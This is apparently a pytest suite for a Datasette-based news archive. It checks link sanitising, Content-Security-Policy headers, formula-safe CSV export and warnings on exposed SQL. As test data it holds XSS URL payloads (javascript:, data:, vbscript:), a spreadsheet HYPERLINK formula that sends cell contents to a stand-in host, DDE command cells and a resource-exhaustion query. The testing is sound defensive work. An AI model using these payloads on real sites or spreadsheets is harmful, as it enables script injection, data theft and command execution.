"""Safe to serve (issue 11, section 3): only http(s) links, a CSP on every response, spreadsheet-safe
CSV, and `warta serve` that warns before it exposes arbitrary SQL. Through Datasette's own client,
on a real archive file whose stored URLs and cells are hostile."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from archive.db import open_archive, save_articles
from archive.safety import neutralise_cell, neutralise_csv_record, safe_href
from archive.serve import make_datasette
from tests.archive_factory import make_article

#: Stored URLs a browser would run or that lead off http(s); none may become a link.
HOSTILE_URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(document.domain)",
    "  JaVaScRiPt:alert(2)",
    "java\tscript:alert(3)",
    "java\nscript:alert(4)",
    "\x01javascript:alert(5)",
    "data:text/html,<script>alert(6)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==",
    "vbscript:msgbox(8)",
    "javascript&#58;alert(9)",
    "&#106;avascript:alert(10)",
    "//evil.test/protocol-relative",
    "/archive/articles/1",
    "https:evil.test",
]
#: Stored URLs that do become links (spaces around one are dropped, as a browser would).
SAFE_URLS = ["https://ok.test/a", "HTTP://OK.test/b", "  https://ok.test/c\t"]


@pytest.mark.parametrize("url", HOSTILE_URLS + [None, 5, "", "https://", "http:///x"])
def test_safe_href_refuses_everything_but_http_urls(url: object) -> None:
    assert safe_href(url) is None


@pytest.mark.parametrize(
    "url, href",
    [("https://ok.test/a", "https://ok.test/a"), ("HTTP://OK.test/b", "HTTP://OK.test/b"),
     ("  https://ok.test/c\t", "https://ok.test/c"), ("https://ok.test/\np", "https://ok.test/p")],
)
def test_safe_href_keeps_http_urls(url: str, href: str) -> None:
    assert safe_href(url) == href


class _Links(HTMLParser):
    """Every href as a browser reads it (entities decoded), with the link's text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.hrefs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "a":
            self.hrefs.extend(v or "" for k, v in attrs if k == "href")


def runnable_hrefs(html: str) -> list[str]:
    """hrefs whose scheme (after a browser's clean-up) is not http(s), or that leave the site by //."""
    parser = _Links()
    parser.feed(html)
    bad = []
    for href in parser.hrefs:
        seen = re.sub(r"[\t\n\r]", "", href.strip("".join(chr(c) for c in range(0x21))))
        scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", seen)
        if (scheme and scheme.group(1).lower() not in ("http", "https")) or seen.startswith("//"):
            bad.append(href)
    return bad


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One article per hostile (and safe) URL, stored as canonical URL, related link and story member."""
    path = tmp_path_factory.mktemp("hostile") / "archive.db"
    db = open_archive(path)
    urls = HOSTILE_URLS + SAFE_URLS
    save_articles(db, [make_article(n) for n in range(len(urls))])
    conn = db.conn
    # Written past save_articles (which normalises URLs): the archive is the trust boundary, and an
    # old archive or another writer may hold anything.
    for n, url in enumerate(urls, start=1):
        conn.execute("UPDATE articles SET canonical_url = ? WHERE id = ?", (url, n))
        conn.execute("DELETE FROM related WHERE article_id = ?", (n,))
        conn.execute(
            # Not the article's own URL, which would be linked to the archived copy instead.
            "INSERT INTO related (article_id, position, url, title) VALUES (?, 1, ?, ?)",
            (n, url + "#baca", f"Baca {n}"),
        )
        conn.execute("INSERT INTO stories (article_id, story_id) VALUES (?, 1)", (n,))
    conn.commit()
    db.close()
    return path


_INSTANCES: dict[tuple[Path, int, bool], object] = {}


async def datasette_for(db_path: Path, public: bool = False):
    import asyncio

    key = (db_path, id(asyncio.get_running_loop()), public)
    if key not in _INSTANCES:
        _INSTANCES.clear()
        ds = make_datasette(db_path, public=public) if public else make_datasette(db_path)
        await ds.invoke_startup()
        _INSTANCES[key] = ds
    return _INSTANCES[key]


async def get(db_path: Path, url: str, public: bool = False):
    return await (await datasette_for(db_path, public)).client.get(url)


async def test_no_stored_url_becomes_a_runnable_link(hostile_db: Path) -> None:
    pages = [f"/archive/articles/{n}" for n in range(1, len(HOSTILE_URLS) + len(SAFE_URLS) + 1)]
    pages += ["/archive/articles", "/archive/related", "/archive/story_groups", "/archive/story_articles",
              "/archive/largest_stories", "/archive/most_linked_related", "/archive/latest_articles",
              "/archive/related_links"]
    bad: dict[str, list[str]] = {}
    for url in pages:
        response = await get(hostile_db, url)
        assert response.status_code == 200, url
        found = runnable_hrefs(response.text)
        if found:
            bad[url] = found
    assert bad == {}


async def test_hostile_urls_show_as_text_and_safe_ones_as_links(hostile_db: Path) -> None:
    for n, url in enumerate(HOSTILE_URLS, start=1):
        page = (await get(hostile_db, f"/archive/articles/{n}")).text
        block = re.search(r'<article class="warta-article">(.*?)</article>', page, re.S).group(1)
        parser = _Links()
        parser.feed(block)
        assert parser.hrefs == ["/archive/story_articles?story_id=1"], url  # only the archive's own link
        assert f"Baca {n}" in block  # the related link's title is still there, as text
    for n, url in enumerate(SAFE_URLS, start=len(HOSTILE_URLS) + 1):
        page = (await get(hostile_db, f"/archive/articles/{n}")).text
        block = re.search(r'<article class="warta-article">(.*?)</article>', page, re.S).group(1)
        parser = _Links()
        parser.feed(block)
        assert parser.hrefs == [safe_href(url), safe_href(url + "#baca"), "/archive/story_articles?story_id=1"]


# -- Content-Security-Policy and the other headers on every response ------------------------------

#: The pages a reader uses, and responses that are not pages.
READER_PAGES = [
    "/", "/archive", "/archive/articles", "/archive/articles?_search=berita", "/archive/articles/1",
    "/archive/story_groups", "/archive/latest_articles", "/archive?sql=select+1", "/archive/articles_by_date",
]
OTHER_RESPONSES = ["/archive/articles.json", "/archive/articles.csv", "/-/versions.json", "/nothing-here",
                   "/-/static/app.css", "/-/warta.css"]


def _policy(header: str) -> dict[str, list[str]]:
    directives = [d.split() for d in header.split(";") if d.strip()]
    return {d[0]: d[1:] for d in directives}


class _Resources(HTMLParser):
    """Inline scripts, script and stylesheet URLs, and inline event handler attributes of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)
        self.inline: list[str] = []
        self.sources: list[str] = []
        self.handlers: list[str] = []
        self._script: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        self.handlers.extend(k for k, _ in attrs if k.startswith("on"))
        if tag == "script":
            if found.get("src"):
                self.sources.append(found["src"] or "")
            else:
                self._script = []
        elif tag == "link" and found.get("rel") == "stylesheet":
            self.sources.append(found.get("href") or "")

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            self.inline.append("".join(self._script))
            self._script = None


def _hash(script: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() + "'"


@pytest.mark.parametrize("url", READER_PAGES + OTHER_RESPONSES)
async def test_every_response_carries_the_security_headers(hostile_db: Path, url: str) -> None:
    response = await get(hostile_db, url)
    assert response.status_code in (200, 404), url
    policy = _policy(response.headers["content-security-policy"])
    assert policy["default-src"] == ["'none'"] and policy["base-uri"] == ["'none'"]
    assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-eval'" not in policy["script-src"]
    assert response.headers["x-content-type-options"] == "nosniff"
    # Datasette sets no-referrer itself on pages whose URL can hold SQL; stricter, so it is kept.
    assert response.headers["referrer-policy"] in ("same-origin", "no-referrer")


@pytest.mark.parametrize("url", READER_PAGES)
async def test_the_policy_lets_datasettes_own_pages_work(hostile_db: Path, url: str) -> None:
    """Every script a reader's page runs is allowed: same-origin files, and inline blocks by hash."""
    response = await get(hostile_db, url)
    assert response.status_code == 200
    script_src = _policy(response.headers["content-security-policy"])["script-src"]
    page = _Resources()
    page.feed(response.text)
    assert page.inline, "Datasette pages carry inline scripts (closing menus, the SQL editor)"
    assert [s for s in page.inline if _hash(s) not in script_src] == []
    # Scripts and stylesheets are same-origin paths (the CSP allows 'self', not data: or hosts).
    assert [s for s in page.sources if not s.startswith("/") or s.startswith("//")] == []
    assert page.handlers == []  # inline onclick= etc. would be blocked
    css = await get(hostile_db, "/-/warta.css")
    assert css.status_code == 200 and ".warta-body p" in css.text


# -- Formula-safe CSV from Datasette ---------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://evil.test/?"&A1,"Klik")'
FORMULA_BODY = "@SUM(1+1)*cmd|' /C calc'!A0\n\nParagraf kedua, dengan \"kutipan\" dan koma."


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Forty articles; article 1 holds formula cells, article 2 a text "-5" section."""
    path = tmp_path_factory.mktemp("formula") / "archive.db"
    db = open_archive(path)
    save_articles(db, [make_article(n) for n in range(40)])
    db.conn.execute(
        "UPDATE articles SET title = ?, body = ?, description = ?, section = ? WHERE id = 1",
        (FORMULA_TITLE, FORMULA_BODY, "+cmd|' /C calc'!A0", "\t=1+1"),
    )
    db.conn.execute("UPDATE articles SET section = '-5', dateline = '-x' WHERE id = 2")
    db.conn.commit()
    db.close()
    return path


def csv_rows(text: str) -> dict[str, dict[str, str]]:
    return {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}


@pytest.mark.parametrize(
    "url", ["/archive/articles.csv", "/archive/articles.csv?_stream=on",
            "/archive/articles_by_date.csv?_stream=on&_dl=on", "/archive/articles.csv?_sort=id&_size=max"],
)
async def test_datasette_csv_neutralises_formula_cells(formula_db: Path, url: str) -> None:
    response = await get(formula_db, url)
    assert response.status_code == 200
    rows = csv_rows(response.text)
    assert len(rows) == 40
    assert rows["1"]["title"] == "'" + FORMULA_TITLE and rows["1"]["body"] == "'" + FORMULA_BODY
    assert rows["1"]["description"] == "'+cmd|' /C calc'!A0" and rows["1"]["section"] == "'\t=1+1"
    # A bare number is left alone (the CSV cannot tell text "-5" from an INTEGER); "-x" is not a number.
    assert rows["2"]["section"] == "-5" and rows["2"]["dateline"] == "'-x"
    # Every other record is byte for byte what Datasette wrote.
    plain = make_article(5)
    assert rows["6"]["title"] == plain["title"] and rows["6"]["body"] == "\n\n".join(plain["paragraphs"])


async def test_csv_of_queries_is_neutralised_and_json_keeps_raw_values(formula_db: Path) -> None:
    from urllib.parse import quote

    canned = csv_rows((await get(formula_db, "/archive/latest_articles.csv")).text)
    assert canned["1"]["title"] == "'" + FORMULA_TITLE
    sql = "select 1 as id, '=1+2' as a, '-9' as b, -9 as c, '@x' as d, 'ok' as e"
    text = (await get(formula_db, f"/archive.csv?sql={quote(sql)}")).text
    assert text == "id,a,b,c,d,e\r\n1,'=1+2,-9,-9,'@x,ok\r\n"
    data = (await get(formula_db, "/archive/articles/1.json?_shape=objects")).json()
    assert data["rows"][0]["title"] == FORMULA_TITLE  # raw values stay available as JSON


def test_csv_records_are_cut_the_same_at_every_chunk_boundary() -> None:
    from archive.plugins.warta_csv import CsvRecords

    out = io.StringIO(newline="")
    writer = csv.writer(out)  # Datasette's dialect: excel, CRLF
    writer.writerows([["id", "title", "body"], [1, FORMULA_TITLE, FORMULA_BODY], [2, "kafé \"é\"", "a\r\nb"],
                      [3, "-5", "x"], [4, '"', "\n"]])
    data = out.getvalue().encode("utf-8")
    expected = b"".join(neutralise_csv_record(r) for r in CsvRecords().feed(data))
    assert expected.count(b"'") >= 2
    for cut in range(1, len(data)):
        records = CsvRecords()
        parts = records.feed(data[:cut]) + records.feed(data[cut:])
        parts.append(records.rest())
        assert b"".join(neutralise_csv_record(p) for p in parts if p) == expected, cut


async def test_csv_is_rewritten_as_it_streams() -> None:
    """The wrapper forwards each chunk's whole records at once: memory is one partial record."""
    from archive.plugins.warta_csv import formula_safe_csv

    sent: list[dict] = []

    async def send(message: dict) -> None:
        sent.append(message)

    safe = formula_safe_csv(send)
    await safe({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/plain")]})
    for n in range(5000):
        await safe({"type": "http.response.body", "body": f'{n},"=A{n}\r\n'.encode(), "more_body": True})
        await safe({"type": "http.response.body", "body": b'x"\r\n', "more_body": True})
        # After the second half, the record is complete and already on its way.
        assert sent[-1]["body"] == f"{n},\"'=A{n}\r\nx\"\r\n".encode()
    await safe({"type": "http.response.body", "body": b"", "more_body": False})
    assert sent[-1] == {"type": "http.response.body", "body": b"", "more_body": False}


def test_neutralise_cell_follows_owasp() -> None:
    for cell in ["=1", "+1", "-1", "@a", "\tx", "\rx"]:
        assert neutralise_cell(cell) == "'" + cell
    for cell in ["a=1", " =1", "", "'=1", 5, -5, None, 1.5]:
        assert neutralise_cell(cell) == cell


# -- warta serve beyond this machine: a warning, and --public ---------------------------------------


@pytest.mark.parametrize("host", ["127.0.0.1", "127.0.1.1", "::1", "[::1]", "localhost", "LOCALHOST"])
def test_loopback_hosts_need_no_warning(host: str) -> None:
    from archive.serve import exposure_warning

    assert exposure_warning(host, public=False) is None


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.168.1.20", "10.0.0.5", "archive.example.org", ""])
def test_other_hosts_warn_unless_public(host: str) -> None:
    from archive.serve import exposure_warning

    warning = exposure_warning(host, public=False)
    assert warning and "\n" not in warning and "arbitrary SQL" in warning and "--public" in warning
    assert exposure_warning(host, public=True) is None


def _run_serve(monkeypatch: pytest.MonkeyPatch, db: Path, *args: str) -> tuple[int, str, dict]:
    """`warta serve` through the CLI, with uvicorn.run replaced: the app it would serve is kept."""
    import uvicorn
    from click.testing import CliRunner

    from archive.cli import cli

    served: dict = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: served.update(app=app, **kw))
    result = CliRunner().invoke(cli, ["serve", "--db", str(db), *args])
    return result.exit_code, result.stderr if hasattr(result, "stderr") else result.output, served


def test_warta_serve_warns_on_an_open_host_and_not_with_public(
    monkeypatch: pytest.MonkeyPatch, hostile_db: Path
) -> None:
    code, err, served = _run_serve(monkeypatch, hostile_db, "--host", "0.0.0.0")
    assert code == 0 and served["host"] == "0.0.0.0"
    assert "warning: --host 0.0.0.0 lets anyone" in err and "--public" in err
    code, err, served = _run_serve(monkeypatch, hostile_db, "--host", "0.0.0.0", "--public")
    assert code == 0 and "warning" not in err
    code, err, served = _run_serve(monkeypatch, hostile_db)
    assert code == 0 and "warning" not in err and served["host"] == "127.0.0.1"


async def test_public_turns_arbitrary_sql_off_and_keeps_the_reader_pages(formula_db: Path) -> None:
    from urllib.parse import quote

    ds = await datasette_for(formula_db, public=True)
    assert ds.setting("default_allow_sql") is False and ds.setting("max_csv_mb") == 100
    blob = quote("select length(randomblob(300000000))")
    for url in [f"/archive?sql={blob}", f"/archive.json?sql={blob}", f"/archive.csv?sql={blob}",
                "/archive/articles?_where=1%3D1", "/archive/articles.json?_facet=body", "/archive.db"]:
        response = await ds.client.get(url)
        assert response.status_code in (400, 403), url
    # What a reader uses still works: tables with their facets, search, rows, canned queries, CSV.
    table = (await ds.client.get("/archive/articles.json?_size=5")).json()
    assert {"site", "section", "day"} <= set(table["facet_results"])
    assert (await ds.client.get("/archive/articles.json?_search=redaksi")).json()["rows"]
    for url in ["/", "/archive", "/archive/articles?_search=redaksi", "/archive/articles/2",
                "/archive/latest_articles", "/archive/articles_by_date.csv?_stream=on"]:
        response = await ds.client.get(url)
        assert response.status_code == 200, url
        assert "content-security-policy" in response.headers
    # The owner's local instance keeps SQL.
    local = await (await datasette_for(formula_db)).client.get("/archive.json?sql=select+1+as+one&_shape=array")
    assert local.json() == [{"one": 1}]
